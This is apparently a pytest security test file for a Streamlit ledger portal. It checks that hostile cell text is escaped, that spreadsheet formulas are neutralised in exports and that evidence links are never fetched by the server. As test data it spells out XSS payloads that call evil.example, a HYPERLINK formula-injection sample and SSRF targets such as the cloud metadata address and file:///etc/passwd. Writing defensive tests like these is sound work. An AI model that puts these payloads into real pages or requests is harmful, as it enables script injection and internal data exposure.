"""Texts that staff or a form could put into a cell to hurt a reader: shown as text, never run, never fetched."""

from __future__ import annotations

import ast
import csv
import io
import re
import shutil
import socket
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import replace
from datetime import date
from html.parser import HTMLParser
from pathlib import Path

import pytest
import streamlit
from jinja2 import Environment
from streamlit.testing.v1 import AppTest

from ledger.columns import LEDGER, Owner
from ledger.contacts import REPORTERS
from ledger.deadlines.standing import Rules
from ledger.errors import InvalidCells
from ledger.figures.board import board
from ledger.permissions import Person, Role
from ledger.repository import Submission
from ledger.service import LedgerService
from portal.build import Portal, build, use
from portal.navigation import PAGES
from portal.overview import bars, blocks, lists
from portal.overview.matrix import matrix
from portal.overview.rows import entry_rows
from portal.overview.ways import Ways
from portal.settings.settings import ROOT, load
from reports import make
from tests.property.world import PLACES, World
from tests.unit.ledger.sample_ledger import small_ledger

CLERK = Person("体验:鼓楼区", "鼓楼区", frozenset({Role.UNIT}), ("鼓楼区",))
FORMULAS = ('=HYPERLINK("http://evil.example","点我")', "=1+1", "+1", "-1", "@SUM(A1)", "＝1", "\t=1")
HOSTILE = (
    '情况：<img src=x onerror="fetch(`http://evil.example/a`)">',
    "情况：<script>fetch('http://evil.example/b')</script>",
    "![图](http://evil.example/c.png)",
    "[点我](javascript:alert(1))",
    ":material/block: :red[红] $\\href{http://evil.example/d}{x}$ `码` **粗**",
)
# What would become markup in a browser if it arrived unescaped in an element that reads Markdown.
LIVE = re.compile(r"(?<!\\)(?:!\\?\[图|\[点我\]\(|:red\[红|:material/block:|\*\*粗|`码`|\$\\href|<img|<script)")
OPEN = [c.name for c in LEDGER if c.owner is not Owner.IDENTITY and c.name not in ("percent", "status")]
# Elements whose text the browser shows letter by letter.
PLAIN = ("text", "code", "text_area", "text_input", "number_input", "selectbox", "arrow_data_frame", "bidi_component")
# Of an element, what is no text on the page: names for programs, and where a link leads.
NO_TEXT = ("id", "form_id", "page", "url")


@pytest.fixture(scope="module")
def infested_once(filled_home: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Portal]:
    """Hostile texts in every open column of some rows, from the sheet and from the form, and some in conflict."""
    home = shutil.copytree(filled_home, tmp_path_factory.mktemp("infested") / "home")
    fresh = build(load(home=home, backend="memory", today=date(2021, 10, 12)))
    fresh.engine.cycle()
    rows = fresh.engine.backend.sheets.tabs["工作台账"]  # type: ignore[attr-defined]
    mine = [row for row in rows if row[PLACES["unit"] - 1] == "鼓楼区"]
    for number, row in enumerate(mine[: len(HOSTILE)]):
        for name in OPEN:
            row.extend([""] * (PLACES[name] - len(row)))
            row[PLACES[name] - 1] = HOSTILE[number]
    mine[0][PLACES["status"] - 1] = HOSTILE[0]
    assert fresh.engine.cycle().trouble == ""
    for number, text in enumerate(HOSTILE, 5):
        key = mine[number][0]
        fresh.entry.service.submit(CLERK, Submission(key, {"issues": text}, {"issues": ""}), token=key)
        if number % 2:
            mine[number][PLACES["issues"] - 1] = text[::-1] + text
    fresh.engine.cycle()
    assert fresh.book.conflicts()
    assert fresh.book.findings()
    yield fresh
    fresh.book.engine.dispose()


@pytest.fixture
def infested(infested_once: Portal) -> Iterator[Portal]:
    """That portal, as this process's."""
    use(infested_once)
    yield infested_once
    use(None)


@pytest.mark.samples(12)
@pytest.mark.parametrize(("path", "who"), [*((p.path, "市政府办公厅") for p in PAGES), ("submit", "鼓楼区")])
def test_f110_no_page_turns_a_cell_into_markup(
    infested: Portal, visit: Callable[..., AppTest], path: str, who: str
) -> None:
    """F110: every element that reads Markdown has the text escaped, or does not have it."""
    at = visit(path, who, entry=infested.ledger().by_unit["鼓楼区"][0].key, unit="鼓楼区")
    assert not at.exception
    assert _live(at) == []


def test_f110_the_portals_own_scripts_put_texts_where_they_are_letters() -> None:
    """The grid is drawn by a script of ours (`bidi_component` above)."""
    scripts = [p.read_text(encoding="utf-8") for p in (ROOT / "portal").rglob("*.js")]
    assert len(scripts) > 5
    assert not [
        text[:80] for text in scripts if re.search(r"innerHTML|outerHTML|insertAdjacentHTML|document\.write", text)
    ]


def test_f110_names_in_the_blocks_of_the_overview_are_letters(monkeypatch: pytest.MonkeyPatch) -> None:
    """F110: names of units and tasks, reporters and telephone numbers in HTML that the portal makes itself."""
    shown = Parts()
    shown.feed(_blocks())
    assert shown.strange == []
    assert set(HOSTILE) <= {text.split("：？")[0] for text in shown.texts}
    unescaped = Environment(loader=blocks._TEMPLATES.loader, autoescape=False, trim_blocks=True)
    monkeypatch.setattr(blocks, "_TEMPLATES", unescaped)
    seen = Parts()
    seen.feed(_blocks())
    assert seen.strange, "the look above finds what is not escaped"


def _blocks() -> str:
    """Every block over a ledger full of hostile names."""
    ledger = small_ledger()
    named = {
        unit: f"{HOSTILE[n % len(HOSTILE)]}：？{n}"
        for n, unit in enumerate(dict.fromkeys(e.unit for e in ledger.entries))
    }
    tasks = tuple(replace(t, title=HOSTILE[n % len(HOSTILE)]) for n, t in enumerate(ledger.breakdown.tasks))
    said = {"reporter": HOSTILE[0], "phone": HOSTILE[3], "progress_note": HOSTILE[1]}
    entries = tuple(replace(e, unit=named[e.unit], **said) for e in ledger.entries)
    ledger = replace(ledger, entries=entries, breakdown=replace(ledger.breakdown, tasks=tasks))
    late, soon = (board(ledger, day) for day in (date(2021, 11, 5), date(2021, 10, 29)))
    assert late.overdue
    assert soon.due_soon
    drawn = [draw(of, REPORTERS, Ways(), "x") for of in (late, soon) for draw in (lists.late, lists.soon, lists.silent)]
    drawn += [matrix(late, Ways()), bars.by_unit(late, soon, "较上周", Ways()), bars.by_part(late, None, "", Ways())]
    return "".join([*(block.html for block in drawn), entry_rows(late, entries[0].task_no, REPORTERS, Ways())])


def test_f110_would_be_seen_if_a_page_did(
    infested: Portal, visit: Callable[..., AppTest], monkeypatch: pytest.MonkeyPatch
) -> None:
    """The page of conflicts shows the hostile texts, and the look above finds them when they are Markdown."""
    assert any(HOSTILE[2] in t.value for t in visit("sync", "市政府办公厅").text)
    monkeypatch.setattr("streamlit.text", streamlit.markdown)
    assert _live(visit("sync", "市政府办公厅"))


class Parts(HTMLParser):
    """What of a block of HTML is neither one of our own tags nor leads where we lead to."""

    OURS = frozenset(
        "a button caption details div h2 li nobr ol p section span strong summary table tbody td th thead tr ul".split()  # noqa: SIM905
    )
    OWN = frozenset(
        "aria-hidden aria-label class colspan data-look href id role scope style tabindex target title type".split()  # noqa: SIM905
    )

    def __init__(self) -> None:
        super().__init__()
        self.strange: list[str] = []
        self.texts: list[str] = []

    def handle_data(self, data: str) -> None:
        self.texts.append(data)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        leads = re.match(
            r"[?#/]|(?:tasks|ledger|overview|instructions)(?:\?|$)|tel:\+?[0-9,]+$", given.get("href") or "?"
        )
        if tag not in self.OURS or not self.OWN.issuperset(given) or not leads:
            self.strange.append(f"<img <{tag} {given}>")


def _live(at: AppTest) -> list[tuple[str, str]]:
    return [(str(e.type), text[:90]) for e in _all(at) for text in _markdown(e) if LIVE.search(text)]  # type: ignore[attr-defined]


def _all(at: AppTest) -> Iterator[object]:
    def walk(node: object) -> Iterator[object]:
        for child in getattr(node, "children", {}).values():
            yield child
            yield from walk(child)

    yield from walk(at._tree)


def _markdown(element: object) -> Iterator[str]:
    """Strings of an element's message that the browser reads as Markdown (or HTML)."""
    proto = getattr(element, "proto", None)
    kind = getattr(element, "type", "")
    if proto is None or not hasattr(proto, "ListFields"):
        return
    if kind == "html":  # Markdown means nothing there, and tags do
        parts = Parts()
        parts.feed(proto.body)
        yield from parts.strange
        return
    for descriptor, value in proto.ListFields():
        shown_plain = kind in PLAIN and descriptor.name not in ("label", "help")
        if isinstance(value, str) and not shown_plain and descriptor.name not in NO_TEXT:
            yield value


@pytest.mark.parametrize("text", FORMULAS)
def test_f107_a_formula_from_the_form_is_text_in_sheet_and_downloads(workbook: World, text: str) -> None:
    """F107: no formula in the workbook's part, none in the workbook's download; in the CSV a mark stands before it."""
    world, key = workbook, workbook.keys[0]
    person = Person("某", "甲", frozenset({Role.UNIT}), ("甲",))
    LedgerService(world.store).submit(
        person, Submission(key, {"progress_note": text}, {"progress_note": ""}), token="x"
    )
    world.engine.cycle()
    standing = world.text(key, "progress_note")
    path = world.home / "台账.xlsx"
    with zipfile.ZipFile(path) as package:
        sheets = [package.read(name) for name in package.namelist() if "worksheets/sheet" in name]
    assert not any(re.search(rb"<f[ >/]", sheet) for sheet in sheets)
    assert standing is not None
    assert standing.strip() == text.strip()
    of = board(world.store.ledger(), world.store.clock.today(), Rules())
    lines = list(csv.DictReader(io.StringIO(make("entries_csv", of).decode("utf-8-sig"))))
    (cell,) = [line["工作进展"] for line in lines if line["工作进展"]]
    assert cell == f"'{standing}"


LINKS = {  # evidence link -> is it stored? (None: either will do)
    "http://169.254.169.254/latest/meta-data/": None,
    "http://127.0.0.1:8501/healthz": None,
    "http://evil.example/redirect-to-10.0.0.1": True,
    "file:///etc/passwd": False,
    "javascript:alert(1)": False,
    "gopher://127.0.0.1/": False,
}


def test_f111_an_evidence_link_is_never_opened_by_the_server(
    fresh: Portal, visit: Callable[..., AppTest], monkeypatch: pytest.MonkeyPatch
) -> None:
    """F111: its scheme is checked, nobody is called: not on submitting, nor in a cycle, nor on a page."""
    called: list[object] = []
    monkeypatch.setattr(socket.socket, "connect", lambda self, to: called.append(to))
    monkeypatch.setattr(socket, "getaddrinfo", lambda *to, **_: called.append(to) or [])
    entries = fresh.ledger().by_unit["鼓楼区"]
    for entry, (address, taken) in zip(entries, LINKS.items(), strict=False):
        try:
            handed_in = Submission(entry.key, {"evidence": address}, {"evidence": ""})
            fresh.entry.service.submit(CLERK, handed_in, token=address)
            accepted = True
        except InvalidCells:
            accepted = False
        assert taken is None or accepted is taken, address
    fresh.engine.cycle()
    for path in ("ledger", "submit", "overview"):
        assert not visit(path, "鼓楼区", entry=entries[2].key).exception
    assert called == []


def test_f111_no_module_of_ours_can_fetch_anything() -> None:
    """F111: outside of the spreadsheet backends, and of the check of links that asks public websites alone
    (tests/unit/portal/test_link_probe.py), nothing imports a client of any network protocol."""
    clients = {
        "httpx",
        "requests",
        "urllib3",
        "aiohttp",
        "urllib.request",
        "http.client",
        "ftplib",
        "smtplib",
    }
    for folder in ("ledger", "sync", "reports", "portal", "pages"):
        for path in (ROOT / folder).rglob("*.py"):
            if path.is_relative_to(ROOT / "sync" / "backends") or path.is_relative_to(ROOT / "portal" / "links"):
                continue
            assert not clients & _imports(path), path


def _imports(path: Path) -> set[str]:
    found: set[str] = set()
    for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
        if isinstance(node, ast.Import):
            found |= {alias.name for alias in node.names}
        elif isinstance(node, ast.ImportFrom) and node.module:
            found |= {node.module, *(f"{node.module}.{alias.name}" for alias in node.names)}
    return found
